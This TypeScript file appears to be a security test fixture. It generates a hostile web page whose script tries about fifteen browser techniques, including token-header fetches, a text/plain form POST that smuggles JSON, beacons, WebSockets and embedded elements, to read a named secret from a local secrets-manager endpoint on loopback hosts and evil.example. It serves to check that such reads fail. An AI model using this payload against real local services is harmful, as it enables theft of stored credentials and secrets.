/** A page that knows where the endpoint is, what the secret is called and even a good token, and tries to read it. */

export type Target = { readonly port: number; readonly token: string; readonly secret: string }

/** What each attempt showed the page; "nothing" is the only good answer. */
export type Loot = Readonly<Record<string, string>>

export function hostilePage({ port, token, secret }: Target): string {
  return `<!doctype html><meta charset="utf-8"><title>harmless</title><body><script type="module">
const hosts = ['127.0.0.1', 'localhost', '[::1]', 'evil.example'].map((host) => 'http://' + host + ':${port}')
const path = '/v1/${secret}'
const query = '/secretsmanager/get?secretId=${secret}'
const token = ${JSON.stringify(token)}
const body = JSON.stringify({ SecretId: '${secret}' })
const loot = {}
const settle = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 4000, 'nothing'))])
const tried = (name, attempt) => settle(Promise.resolve().then(attempt).catch(() => 'nothing')).then((got) => { loot[name] = String(got || 'nothing').slice(0, 400) })
const textOf = (promise) => promise.then((response) => response.text())
const target = { 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': 'secretsmanager.GetSecretValue' }
const element = (tag, set) => new Promise((resolve) => {
  const made = document.createElement(tag)
  made.onload = () => { try { resolve(made.contentDocument ? made.contentDocument.documentElement.outerHTML : made.naturalWidth ? 'an image' : tag === 'script' || tag === 'link' ? 'loaded' : 'nothing') } catch { resolve('nothing') } }
  made.onerror = () => resolve('nothing')
  set(made)
  document.body.append(made)
})
const posted = (host) => new Promise((resolve) => {
  const frame = document.createElement('iframe')
  frame.name = 'f' + Math.random()
  frame.onload = () => { try { resolve(frame.contentDocument.documentElement.outerHTML.includes('html') ? frame.contentDocument.body.innerText : 'nothing') } catch { resolve('nothing') } }
  document.body.append(frame)
  const form = Object.assign(document.createElement('form'), { method: 'POST', action: host + '/', target: frame.name, enctype: 'text/plain' })
  form.append(Object.assign(document.createElement('input'), { name: body.slice(0, -1) + ',"a":"', value: '"}' }))
  document.body.append(form)
  form.submit()
})
const socket = (host) => new Promise((resolve) => {
  const made = new WebSocket(host.replace('http', 'ws') + path)
  made.onopen = () => resolve('opened')
  made.onerror = () => resolve('nothing')
})
const events = (host) => new Promise((resolve) => {
  const made = new EventSource(host + path)
  made.onopen = () => resolve('opened')
  made.onerror = () => { made.close(); resolve('nothing') }
})
for (const host of hosts) {
  await Promise.all([
    tried(host + ' fetch with the token', () => textOf(fetch(host + path, { headers: { 'x-aws-parameters-secrets-token': token } }))),
    tried(host + ' fetch', () => textOf(fetch(host + query))),
    tried(host + ' fetch no-cors', () => textOf(fetch(host + query, { mode: 'no-cors', credentials: 'include' }))),
    tried(host + ' fetch no-cors with the token', () => textOf(fetch(host + path, { mode: 'no-cors', headers: { 'x-vault-token': token } }))),
    tried(host + ' post JSON 1.1', () => textOf(fetch(host + '/', { method: 'POST', headers: target, body }))),
    tried(host + ' post as text', () => textOf(fetch(host + '/', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body }))),
    tried(host + ' beacon', () => (navigator.sendBeacon(host + '/', body), 'nothing')),
    tried(host + ' script', () => element('script', (made) => { made.src = host + query })),
    tried(host + ' image', () => element('img', (made) => { made.src = host + query })),
    tried(host + ' style', () => element('link', (made) => { made.rel = 'stylesheet'; made.href = host + query })),
    tried(host + ' frame', () => element('iframe', (made) => { made.src = host + query })),
    tried(host + ' form', () => posted(host)),
    tried(host + ' WebSocket', () => socket(host)),
    tried(host + ' EventSource', () => events(host)),
    tried(host + ' ping', () => textOf(fetch(host + '/ping'))),
  ])
}
document.title = 'RESULT ' + JSON.stringify(loot)
</script>`
}
